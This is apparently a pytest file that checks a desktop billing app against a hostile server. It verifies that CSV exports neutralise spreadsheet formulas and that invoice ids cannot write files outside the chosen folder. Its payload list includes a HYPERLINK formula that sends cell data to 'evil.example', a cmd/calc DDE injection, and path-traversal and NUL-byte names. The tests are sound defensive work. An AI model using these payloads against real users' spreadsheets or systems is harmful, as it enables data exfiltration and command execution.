"""Issue 18, findings 8 and 9: what a hostile (or compromised) SmartAlex server sends ends up in
the accountant's bundle as text, and inside the chosen folder.

The server is the real sandbox behind a loopback proxy that rewrites its answers (`rewrite`):
the client, the models and the export are the app's own.
"""

from __future__ import annotations

import csv
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from smartalex_desktop.api import SmartAlexClient
from smartalex_desktop.documents import export_invoices, names
from tests.helpers.cards import add_card
from tests.helpers.fault_proxy import FaultProxy, rewrite
from tests.helpers.ledger import post_top_up
from tests.helpers.sandbox import Customer, SandboxProcess

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _invoices_in(body: Any, change: Callable[[dict[str, Any]], None]) -> Any:
    """`change` applied to every invoice of an answer: a list page or one invoice."""
    items = body.get("data") if isinstance(body, dict) and "data" in body else [body]
    for item in items:
        if isinstance(item, dict) and "number" in item and "total_cents" in item:
            change(item)
    return body


@pytest.fixture(scope="module")
def customer_with_a_credit_note(sandbox: SandboxProcess) -> Customer:
    customer = sandbox.create_account(plan="dental")
    card = str(add_card(customer.http)["id"])
    for amount_cents in (10_00, 20_00):
        assert post_top_up(customer.http, amount_cents, card).status_code == 200
    top_ups = customer.http.get("/v1/wallet/top-ups").json()["data"]
    refunded = customer.http.post(
        f"/v1/wallet/top-ups/{top_ups[0]['id']}/refund-request",
        headers={"Idempotency-Key": str(uuid.uuid4())},
    )
    assert refunded.status_code == 200, refunded.text
    return customer


def _csv(folder: Path) -> list[dict[str, str]]:
    with (folder / "invoices.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_finding_08_invoices_csv_holds_no_formula_from_the_server(
    sandbox: SandboxProcess, customer_with_a_credit_note: Customer, tmp_path: Path
):
    customer = customer_with_a_credit_note
    hostile_numbers: dict[str, str] = {}

    def hostile(invoice: dict[str, Any]) -> None:
        number = hostile_numbers.setdefault(
            invoice["id"], FORMULAS[len(hostile_numbers) % len(FORMULAS)]
        )
        invoice["number"] = number

    with FaultProxy(sandbox.url) as proxy, SmartAlexClient(proxy.url) as client:
        proxy.inject(
            rewrite(lambda body: _invoices_in(body, hostile)), "GET", "/v1/invoices", times=None
        )
        client.sign_in(customer.email, customer.password)
        invoices = list(client.iter_invoices())
        assert {invoice.number for invoice in invoices} <= set(FORMULAS)
        export_invoices(invoices, client.account(), tmp_path, fetch_full=client.invoice)
    rows = _csv(tmp_path)
    assert len(rows) == 3
    for row in rows:
        for column in ("number", "corrects_invoice"):
            cell = row[column]
            if cell:
                assert cell.startswith("'") and cell[1:] in FORMULAS, (column, cell)
        for column in ("subtotal", "tax", "total", "amount_paid"):
            assert row[column].lstrip("-").replace(".", "").isdigit(), (column, row[column])
    # Money the app writes itself: a credit note's figures are negative and stay numbers.
    [credit_note] = [row for row in rows if row["kind"] == "credit_note"]
    assert credit_note["total"].startswith("-") and credit_note["corrects_invoice"]


def test_finding_09_a_hostile_invoice_id_or_number_cannot_name_a_file_outside_the_folder(
    sandbox: SandboxProcess, customer_with_a_credit_note: Customer, tmp_path: Path
):
    customer = customer_with_a_credit_note
    hostile_ids = iter(["../../../escaped", "x/\x00/y", ".."])

    def hostile(invoice: dict[str, Any]) -> None:
        invoice["number"] = "/../"  # nothing usable: the file is named after the id
        invoice["id"] = next(hostile_ids)

    out = tmp_path / "bundle" / "chosen"
    with FaultProxy(sandbox.url) as proxy, SmartAlexClient(proxy.url) as client:
        proxy.inject(rewrite(lambda body: _invoices_in(body, hostile)), "GET", "/v1/invoices")
        client.sign_in(customer.email, customer.password)
        invoices = list(client.iter_invoices())
        account = client.account()
    # Complete as listed: exported as they came (the saved copy's way), no fetching by id.
    result = export_invoices(invoices, account, out)
    assert len(result.pdfs) == 3
    written = sorted(path.relative_to(tmp_path) for path in tmp_path.rglob("*") if path.is_file())
    assert all(path.parent == Path("bundle/chosen") for path in written), written
    assert {path.name.split("_", 1)[1] for path in result.pdfs} == {
        "escaped.pdf",
        "x-y.pdf",
        "document.pdf",
    }
    # And a name with a folder part or a NUL is refused wherever it comes from.
    for bad in ("a/b.pdf", "a\\b.pdf", "a\x00b.pdf", "..", ""):
        with pytest.raises(names.UnsafeFileName):
            names.checked(bad)
    assert names.safe_part("", "../..") == "document"
